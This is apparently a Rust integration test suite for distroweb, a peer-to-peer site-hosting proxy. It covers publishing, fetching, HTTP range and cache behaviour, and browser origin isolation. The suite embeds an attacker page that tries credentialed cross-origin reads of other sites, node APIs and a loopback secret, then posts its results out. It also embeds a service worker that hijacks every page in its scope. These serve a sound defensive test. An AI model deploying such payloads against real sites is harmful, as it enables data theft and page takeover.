//! Whole sites over a live network on 127.0.0.1: published on one node, read
//! through another node's proxy with an HTTP client and with a real browser, and
//! still there after the publisher leaves.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use distroweb_net::{LiveNode, NetConfig};
use distroweb_protocol::Id;
use distroweb_protocol::{nonzero, TransferConfig};
use distroweb_proxy::origin::to_base32;
use distroweb_proxy::{Proxy, ProxyConfig};
use http::{HeaderMap, Method, Request, StatusCode};
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::Client;
use hyper_util::rt::TokioExecutor;

/// A 3×2 PNG, every pixel pure red.
const PIXEL_PNG: [u8; 73] = [
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x03, 0x00, 0x00, 0x00, 0x02, 0x08, 0x02, 0x00, 0x00, 0x00, 0x12, 0x16, 0xf1,
    0x4d, 0x00, 0x00, 0x00, 0x10, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0x00,
    0x41, 0x0c, 0x70, 0x16, 0x00, 0x41, 0xd2, 0x05, 0xfb, 0x87, 0xf0, 0xb9, 0x48, 0x00, 0x00, 0x00,
    0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

const INDEX: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>distroweb test site</title>
<link rel="stylesheet" href="css/site.css"></head>
<body><h1 id="title">Hello from distroweb</h1><img id="pixel" src="img/pixel.png" alt="">
<pre id="report">pending</pre>
<script>
window.addEventListener('load', function () {
  var h1 = getComputedStyle(document.getElementById('title'));
  var img = document.getElementById('pixel');
  document.getElementById('report').textContent =
    'color=' + h1.color + ';weight=' + h1.fontWeight + ';img=' + img.naturalWidth + 'x' + img.naturalHeight +
    ';sw=' + (navigator.serviceWorker && navigator.serviceWorker.controller ? 'controlled' : 'none');
});
</script></body></html>
"#;
const CSS: &str = "h1 { color: rgb(255, 0, 0); font-weight: 700; }\n";

/// Deterministic bytes that span several chunks.
fn big_file() -> Vec<u8> {
    (0..600_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect()
}

fn site_tar() -> Vec<u8> {
    let big = big_file();
    let files: [(&str, &[u8]); 4] = [
        ("index.html", INDEX.as_bytes()),
        ("css/site.css", CSS.as_bytes()),
        ("img/pixel.png", &PIXEL_PNG),
        ("data/big.bin", &big),
    ];
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, name, data).unwrap();
    }
    b.into_inner().unwrap()
}

struct Peer {
    node: LiveNode,
    proxy: Option<Proxy>,
}

impl Peer {
    async fn start(n: u8, with_proxy: bool, seed: Option<SocketAddr>) -> Peer {
        let node = LiveNode::start(NetConfig {
            seed: Some(u64::from(n)),
            ..NetConfig::loopback()
        })
        .await
        .unwrap();
        if let Some(seed) = seed {
            node.join(&[seed]).await.expect("join");
        }
        let proxy = if with_proxy {
            let config = ProxyConfig {
                listen: "127.0.0.1:0".parse().unwrap(),
                lookup_deadline: Duration::from_secs(20),
                ..ProxyConfig::default()
            };
            Some(Proxy::start(config, node.handle()).await.unwrap())
        } else {
            None
        };
        Peer { node, proxy }
    }

    fn proxy(&self) -> SocketAddr {
        self.proxy.as_ref().expect("has a proxy").local_addr()
    }

    async fn stop(self) {
        if let Some(p) = self.proxy {
            p.stop().await;
        }
        self.node.stop().await;
    }
}

struct Reply {
    status: StatusCode,
    headers: HeaderMap,
    body: Bytes,
}

async fn http(
    method: Method,
    addr: SocketAddr,
    path: &str,
    headers: &[(&str, &str)],
    body: Vec<u8>,
) -> Reply {
    let client = Client::builder(TokioExecutor::new()).build_http::<Full<Bytes>>();
    let mut req = Request::builder()
        .method(method)
        .uri(format!("http://{addr}{path}"));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let response = tokio::time::timeout(
        Duration::from_secs(30),
        client.request(req.body(Full::new(Bytes::from(body))).unwrap()),
    )
    .await
    .expect("answer in time")
    .expect("an answer");
    let (parts, body) = response.into_parts();
    let body = body.collect().await.expect("whole body").to_bytes();
    Reply {
        status: parts.status,
        headers: parts.headers,
        body,
    }
}

async fn get(addr: SocketAddr, path: &str) -> Reply {
    http(Method::GET, addr, path, &[], Vec::new()).await
}

/// The Host of the site `id` on the proxy at `proxy`: `<base32 id>.localhost:<port>`.
fn site_host(proxy: SocketAddr, id: &str) -> String {
    let id: Id = id.parse().expect("a hex id");
    format!("{}.localhost:{}", to_base32(&id), proxy.port())
}

/// `method path` on the site `id`'s own origin, with extra headers.
async fn site_request(
    method: Method,
    proxy: SocketAddr,
    id: &str,
    path: &str,
    headers: &[(&str, &str)],
) -> Reply {
    let host = site_host(proxy, id);
    let mut all = vec![("host", host.as_str())];
    all.extend_from_slice(headers);
    http(method, proxy, path, &all, Vec::new()).await
}

async fn site_get(proxy: SocketAddr, id: &str, path: &str) -> Reply {
    site_request(Method::GET, proxy, id, path, &[]).await
}

/// What a browser sends for an `<img>` that another website embeds.
const CROSS_SITE_IMAGE: [(&str, &str); 3] = [
    ("sec-fetch-site", "cross-site"),
    ("sec-fetch-mode", "no-cors"),
    ("sec-fetch-dest", "image"),
];

fn header<'a>(r: &'a Reply, name: &str) -> &'a str {
    r.headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
}

async fn publish_site(proxy: SocketAddr) -> String {
    let r = http(
        Method::POST,
        proxy,
        "/api/v1/publish",
        &[("content-type", "application/x-tar")],
        site_tar(),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let answer: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
    assert_eq!(answer["kind"], "site");
    assert_eq!(answer["files"], 4);
    answer["id"].as_str().unwrap().to_string()
}

/// Checks every file of the site through the proxy at `proxy`.
async fn check_site(proxy: SocketAddr, id: &str) {
    let r = get(proxy, &format!("/distroweb/{id}/")).await;
    assert_eq!(r.status, StatusCode::MOVED_PERMANENTLY);
    assert_eq!(
        header(&r, "location"),
        format!("http://{}/", site_host(proxy, id))
    );
    let big = big_file();
    let expected: [(&str, &[u8], &str); 4] = [
        ("", INDEX.as_bytes(), "text/html; charset=utf-8"),
        ("css/site.css", CSS.as_bytes(), "text/css; charset=utf-8"),
        ("img/pixel.png", &PIXEL_PNG, "image/png"),
        ("data/big.bin", &big, "application/octet-stream"),
    ];
    for (path, bytes, media_type) in expected {
        let r = site_get(proxy, id, &format!("/{path}")).await;
        assert_eq!(r.status, StatusCode::OK, "{path}");
        assert_eq!(header(&r, "content-type"), media_type, "{path}");
        assert_eq!(
            header(&r, "cache-control"),
            "public, max-age=31536000, immutable"
        );
        assert_eq!(r.body.len(), bytes.len(), "{path}");
        assert!(r.body[..] == bytes[..], "{path} differs");
    }
    assert_eq!(
        site_get(proxy, id, "/missing.html").await.status,
        StatusCode::NOT_FOUND
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_site_outlives_its_publisher() {
    let a = Peer::start(1, true, None).await;
    let seed = a.node.handle().listen_addr();
    let b = Peer::start(2, false, Some(seed)).await;
    let c = Peer::start(3, false, Some(seed)).await;
    let d = Peer::start(4, false, Some(seed)).await;
    let e = Peer::start(5, true, Some(seed)).await;
    let f = Peer::start(6, true, Some(seed)).await;

    let id = publish_site(a.proxy()).await;
    let root: Id = id.parse().unwrap();

    // Fetches only on purpose: an image that another website embeds does not
    // make E fetch (nor store, nor announce) content it does not hold.
    let r = site_request(
        Method::GET,
        e.proxy(),
        &id,
        "/img/pixel.png",
        &CROSS_SITE_IMAGE,
    )
    .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let status = e.node.handle().status().await.unwrap();
    assert!(
        status.fetches.is_empty() && status.fetches_running == 0,
        "no fetch started: {:?}",
        status.fetches
    );
    // Following a link to it from another website is on purpose.
    let r = site_request(
        Method::GET,
        e.proxy(),
        &id,
        "/",
        &[
            ("sec-fetch-site", "cross-site"),
            ("sec-fetch-mode", "navigate"),
            ("sec-fetch-dest", "document"),
        ],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    check_site(e.proxy(), &id).await;
    // Held now, so embedding it elsewhere works.
    let r = site_request(
        Method::GET,
        e.proxy(),
        &id,
        "/img/pixel.png",
        &CROSS_SITE_IMAGE,
    )
    .await;
    assert_eq!((r.status, &r.body[..]), (StatusCode::OK, &PIXEL_PNG[..]));

    // HTTP semantics on a multi-chunk file: HEAD, ranges, conditional requests.
    let big = big_file();
    let path = "/data/big.bin";
    let r = site_request(Method::HEAD, e.proxy(), &id, path, &[]).await;
    assert_eq!(
        (r.status, header(&r, "content-length"), r.body.len()),
        (StatusCode::OK, "600000", 0)
    );
    let etag = header(&r, "etag").to_string();
    assert!(etag.starts_with('"') && etag.len() == 66, "{etag}");
    let r = site_request(
        Method::GET,
        e.proxy(),
        &id,
        path,
        &[("range", "bytes=262100-262199")],
    )
    .await;
    assert_eq!(r.status, StatusCode::PARTIAL_CONTENT);
    assert_eq!(header(&r, "content-range"), "bytes 262100-262199/600000");
    assert!(
        r.body[..] == big[262_100..262_200],
        "a range across a chunk boundary"
    );
    let r = site_request(Method::GET, e.proxy(), &id, path, &[("range", "bytes=-10")]).await;
    assert!(r.body[..] == big[big.len() - 10..]);
    // Read again once every chunk is in the node's memory cache: then the
    // whole body and a range across chunks come out of it at once.
    for _ in 0..2 {
        let r = site_request(Method::GET, e.proxy(), &id, path, &[]).await;
        assert!(r.body[..] == big[..], "the whole file, from memory");
    }
    let r = site_request(
        Method::GET,
        e.proxy(),
        &id,
        path,
        &[("range", "bytes=262100-524400")],
    )
    .await;
    assert_eq!(r.status, StatusCode::PARTIAL_CONTENT);
    assert!(
        r.body[..] == big[262_100..=524_400],
        "three chunks from memory"
    );
    let r = site_request(
        Method::GET,
        e.proxy(),
        &id,
        path,
        &[("range", "bytes=600000-")],
    )
    .await;
    assert_eq!(r.status, StatusCode::RANGE_NOT_SATISFIABLE);
    let r = site_request(
        Method::GET,
        e.proxy(),
        &id,
        path,
        &[("if-none-match", &etag)],
    )
    .await;
    assert_eq!((r.status, r.body.len()), (StatusCode::NOT_MODIFIED, 0));

    // More readers, then the publisher leaves.
    for peer in [&b, &c] {
        peer.node
            .handle()
            .fetch(root)
            .await
            .unwrap()
            .finished()
            .await
            .expect("fetch");
    }
    a.stop().await;
    check_site(f.proxy(), &id).await;
    let status = f.node.handle().status().await.unwrap();
    let fetch = status
        .fetches
        .iter()
        .find(|x| x.root == root)
        .expect("F fetched it");
    assert!(
        fetch.outcome.is_ok() && fetch.bytes_from_peers > 600_000,
        "{fetch:?}"
    );
    assert!(fetch.providers_used >= 1);
    // Whoever downloaded serves it: F is now a holder too.
    assert!(status.held.iter().any(|(r, h)| *r == root && !h.pinned));

    let metrics = String::from_utf8(get(f.proxy(), "/metrics").await.body.to_vec()).unwrap();
    assert!(
        metrics.contains("\ndistroweb_fetches_succeeded_total 1\n"),
        "{metrics}"
    );
    assert!(
        !metrics.contains("\ndistroweb_content_bytes_served_total 0\n"),
        "{metrics}"
    );

    let missing = "0".repeat(64);
    let r = site_get(f.proxy(), &missing, "/").await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "nobody holds it");
    for peer in [b, c, d, e, f] {
        peer.stop().await;
    }
}

/// A reader whose store cannot take the content answers 507 before any header,
/// instead of a 200 with the full length that breaks off when the store fills.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn content_that_cannot_fit_is_refused_before_any_header() {
    let a = Peer::start(21, true, None).await;
    let small = LiveNode::start(NetConfig {
        seed: Some(22),
        protocol: distroweb_protocol::Config {
            transfer: TransferConfig {
                store_capacity_bytes: nonzero!(300_000),
                ..Default::default()
            },
            ..distroweb_protocol::Config::default()
        },
        ..NetConfig::loopback()
    })
    .await
    .unwrap();
    small
        .join(&[a.node.handle().listen_addr()])
        .await
        .expect("join");
    let config = ProxyConfig {
        listen: "127.0.0.1:0".parse().unwrap(),
        lookup_deadline: Duration::from_secs(20),
        ..ProxyConfig::default()
    };
    let proxy = Proxy::start(config, small.handle()).await.unwrap();
    let id = publish_site(a.proxy()).await;
    let r = site_get(proxy.local_addr(), &id, "/data/big.bin").await;
    assert_eq!(r.status, StatusCode::INSUFFICIENT_STORAGE, "{:?}", r.body);
    assert!(
        String::from_utf8_lossy(&r.body).contains("300000"),
        "the page names the store's size: {:?}",
        r.body
    );
    proxy.stop().await;
    small.stop().await;
    a.stop().await;
}

/// The attacker's site: its page tries to read, from its own origin, everything
/// it should not (the victim site, the node's pages and API, a loopback server
/// through the relay) and registers a service worker that would answer every
/// request it controls with `PWNED-BY-SW`. It reports what it got into the DOM.
const ATTACKER: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>attacker</title></head>
<body><pre id="report">pending</pre>
<script>
(async function () {
  const q = new URLSearchParams(location.search);
  const port = location.port;
  const node = 'http://127.0.0.1:' + port;
  const secret = q.get('secret');
  const targets = [
    ['victim', 'http://' + q.get('victim') + '.localhost:' + port + '/'],
    ['status', node + '/'],
    ['api', node + '/api/v1/status'],
    ['metrics', node + '/metrics'],
    ['api_localhost', 'http://localhost:' + port + '/api/v1/status'],
    ['relay', node + '/' + secret + '/'],
    ['relay_localhost', 'http://localhost:' + port + '/' + secret + '/'],
    ['own_api', '/api/v1/status'],
    ['own_relay', '/' + secret + '/'],
  ];
  const lines = [];
  const show = () => { document.getElementById('report').textContent = lines.join('\n'); };
  // Every step gives up after 20 s and says so, so the page always reports
  // (on a loaded machine a hung step otherwise looks like a page that never ran).
  const within = (p, what) => Promise.race([p, new Promise((_, no) =>
    setTimeout(() => no(new Error('timeout:' + what)), 20000))]);
  for (const [name, url] of targets) {
    try {
      const r = await within(fetch(url, { credentials: 'include' }), name);
      lines.push(name + '=read:' + r.status + ':' + (await within(r.text(), name)).slice(0, 300));
    } catch (e) {
      lines.push(name + (String(e).includes('timeout:') ? '=' + e : '=blocked'));
    }
    show();
  }
  try {
    await within(navigator.serviceWorker.register(node + '/sw.js'), 'sw_node');
    lines.push('sw_node=registered');
  } catch (e) {
    lines.push(String(e).includes('timeout:') ? 'sw_node=' + e : 'sw_node=refused');
  }
  try {
    await within(navigator.serviceWorker.register('sw.js', { scope: '/' }), 'sw_own');
    await within(navigator.serviceWorker.ready, 'sw_own ready');
    lines.push('sw_own=registered');
  } catch (e) {
    lines.push('sw_own=failed:' + e);
  }
  show();
  // Service-worker registration outlives headless Chromium's virtual time, so
  // the report goes to the test's collector instead of waiting for --dump-dom.
  await fetch('http://' + q.get('report') + '/report', {
    method: 'POST',
    body: document.getElementById('report').textContent,
  });
})();
</script></body></html>
"#;

/// Claims every page in its scope at once and answers all of them itself.
const SERVICE_WORKER: &str = r#"
self.addEventListener('install', (e) => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => e.respondWith(new Response(
  '<!doctype html><title>pwned</title><pre id="report">PWNED-BY-SW</pre>',
  { headers: { 'content-type': 'text/html' } })));
"#;

fn attacker_tar() -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in [("index.html", ATTACKER), ("sw.js", SERVICE_WORKER)] {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, name, data.as_bytes()).unwrap();
    }
    b.into_inner().unwrap()
}

/// A server on loopback that passes on the first report POSTed to it.
async fn collector() -> (SocketAddr, tokio::sync::mpsc::Receiver<String>) {
    use hyper::server::conn::http1;
    use hyper::service::service_fn;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let tx = tx.clone();
            let service = service_fn(move |req: Request<hyper::body::Incoming>| {
                let tx = tx.clone();
                async move {
                    let body = req.into_body().collect().await.map(|b| b.to_bytes());
                    if let Ok(body) = body {
                        let _ = tx.send(String::from_utf8_lossy(&body).into_owned()).await;
                    }
                    let response = http::Response::builder()
                        .header("access-control-allow-origin", "*")
                        .body(Full::new(Bytes::new()))
                        .unwrap();
                    Ok::<_, std::convert::Infallible>(response)
                }
            });
            tokio::spawn(
                http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(stream), service),
            );
        }
    });
    (addr, rx)
}

/// A server on loopback holding something private, readable cross-origin by
/// anyone who reaches it (`Access-Control-Allow-Origin: *`), as many local
/// development servers are: only the relay's policy can keep a site from it.
async fn loopback_secret(secret: &'static str) -> SocketAddr {
    use hyper::server::conn::http1;
    use hyper::service::service_fn;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let service = service_fn(move |_req: Request<hyper::body::Incoming>| async move {
                let response = http::Response::builder()
                    .header("content-type", "text/plain")
                    .header("access-control-allow-origin", "*")
                    .body(Full::new(Bytes::from_static(secret.as_bytes())))
                    .unwrap();
                Ok::<_, std::convert::Infallible>(response)
            });
            tokio::spawn(
                http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(stream), service),
            );
        }
    });
    addr
}

/// Headless Chromium's flags: no first-run work and no background traffic (the
/// network here is closed), a profile of the test's own.
fn chromium_command(
    chromium: &std::path::Path,
    profile: &std::path::Path,
) -> tokio::process::Command {
    let mut cmd = tokio::process::Command::new(chromium);
    cmd.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
    ])
    .arg(format!("--user-data-dir={}", profile.display()))
    .kill_on_drop(true)
    .stdin(std::process::Stdio::null())
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::null());
    cmd
}

/// Opens `url` in Chromium and returns the first report the page sends to the
/// collector; then stops Chromium with SIGTERM, so the profile (and a service
/// worker registered in it) is saved as a person closing the browser would save it.
async fn chromium_report(
    chromium: &std::path::Path,
    profile: &std::path::Path,
    url: &str,
    reports: &mut tokio::sync::mpsc::Receiver<String>,
) -> String {
    let log_path = profile.with_extension("log");
    let log = std::fs::File::create(&log_path).expect("chromium's log");
    let mut child = chromium_command(chromium, profile)
        .args(["--enable-logging=stderr", "--v=0"])
        .arg(url)
        .stderr(log)
        .spawn()
        .expect("chromium runs");
    // The page's steps give up after 20 s each and it reports anyway; this
    // bounds Chromium's own start and the page's load on a loaded machine.
    let Ok(report) = tokio::time::timeout(Duration::from_secs(180), reports.recv()).await else {
        let _ = child.kill().await;
        let text = std::fs::read_to_string(&log_path).unwrap_or_default();
        let tail: Vec<&str> = text.lines().rev().take(40).collect();
        panic!(
            "the page did not report within 180 s; chromium exited: {:?}; its log ends:\n{}",
            child.try_wait(),
            tail.into_iter().rev().collect::<Vec<_>>().join("\n")
        );
    };
    let report = report.expect("the collector runs");
    if let Some(pid) = child.id() {
        let _ = std::process::Command::new("kill")
            .arg(pid.to_string())
            .status();
    }
    if tokio::time::timeout(Duration::from_secs(15), child.wait())
        .await
        .is_err()
    {
        let _ = child.kill().await;
    }
    report
}

/// Runs headless Chromium on `url` with the profile `profile` and returns the DOM
/// after the page's scripts ran.
async fn chromium_dom(chromium: &std::path::Path, profile: &std::path::Path, url: &str) -> String {
    let mut cmd = chromium_command(chromium, profile);
    cmd.args(["--virtual-time-budget=10000", "--dump-dom", url])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let out = tokio::time::timeout(Duration::from_secs(90), cmd.output())
        .await
        .expect("chromium finishes")
        .expect("chromium runs");
    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
    if dom.trim().is_empty() {
        panic!(
            "chromium printed no DOM for {url}:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    dom
}

/// The report line `name=...` from a dumped DOM.
fn report<'a>(dom: &'a str, name: &str) -> &'a str {
    dom.lines()
        .find_map(|l| l.strip_prefix(&format!("{name}=")))
        .unwrap_or_else(|| panic!("no {name} in the report:\n{dom}"))
}

/// A real browser against the real proxy: an attacker site, opened through the
/// proxy, can read neither the victim site nor the node's pages nor a loopback
/// server through the relay; its service worker does not control the victim;
/// and the victim still renders with its stylesheet and image at its own origin.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_browser_keeps_sites_apart() {
    let Some(chromium) = which_chromium() else {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must have chromium (.ci/run installs it)"
        );
        eprintln!(
            "SKIPPED a_browser_keeps_sites_apart: no chromium on PATH (apt-get install chromium)"
        );
        return;
    };
    const SECRET: &str = "LOCAL-SECRET-7f3a9c";
    let secret = loopback_secret(SECRET).await;
    let (collector, mut reports) = collector().await;
    let a = Peer::start(11, true, None).await;
    let b = Peer::start(12, true, Some(a.node.handle().listen_addr())).await;
    let victim = publish_site(a.proxy()).await;
    let r = http(
        Method::POST,
        a.proxy(),
        "/api/v1/publish",
        &[("content-type", "application/x-tar")],
        attacker_tar(),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let attacker: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
    let attacker = attacker["id"].as_str().unwrap().to_string();
    let victim_id: Id = victim.parse().unwrap();
    let node_id = b.node.handle().id().to_string();

    let profile = std::env::temp_dir().join(format!("distroweb-chromium-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&profile);
    let attack_url = format!(
        "http://{}/?victim={}&secret={secret}&report={collector}",
        site_host(b.proxy(), &attacker),
        to_base32(&victim_id)
    );
    let dom = chromium_report(&chromium, &profile, &attack_url, &mut reports).await;
    for name in [
        "victim",
        "status",
        "api",
        "metrics",
        "api_localhost",
        "relay",
        "relay_localhost",
    ] {
        assert_eq!(report(&dom, name), "blocked", "{name}:\n{dom}");
    }
    // On its own origin the attacker reads only its own site, which has no such files.
    assert!(report(&dom, "own_api").starts_with("read:404"), "{dom}");
    assert!(report(&dom, "own_relay").starts_with("read:404"), "{dom}");
    assert_eq!(report(&dom, "sw_node"), "refused", "{dom}");
    assert_eq!(report(&dom, "sw_own"), "registered", "{dom}");
    for leak in [SECRET, node_id.as_str(), "Hello from distroweb", "routing"] {
        assert!(!dom.contains(leak), "the attacker read {leak:?}:\n{dom}");
    }
    // Its cross-site request for the victim did not make B fetch the victim.
    let status = b.node.handle().status().await.unwrap();
    assert!(
        status.fetches.iter().all(|f| f.root != victim_id),
        "{:?}",
        status.fetches
    );

    // The same browser profile, with the attacker's service worker installed,
    // opens the victim: it renders from its own origin, uncontrolled.
    let victim_url = format!("http://{}/", site_host(b.proxy(), &victim));
    let dom = chromium_dom(&chromium, &profile, &victim_url).await;
    assert!(!dom.contains("PWNED-BY-SW"), "{dom}");
    assert!(
        dom.contains("color=rgb(255, 0, 0);weight=700;img=3x2;sw=none"),
        "the stylesheet and the image must have loaded through the proxy, no service worker:\n{dom}"
    );
    // The worker is real and does control its own origin: the check above could fail.
    let own = format!("http://{}/anything.html", site_host(b.proxy(), &attacker));
    let dom = chromium_dom(&chromium, &profile, &own).await;
    let _ = std::fs::remove_dir_all(&profile);
    assert!(dom.contains("PWNED-BY-SW"), "{dom}");
    a.stop().await;
    b.stop().await;
}

fn which_chromium() -> Option<std::path::PathBuf> {
    ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
        .iter()
        .map(std::path::PathBuf::from)
        .find(|p| p.exists())
}
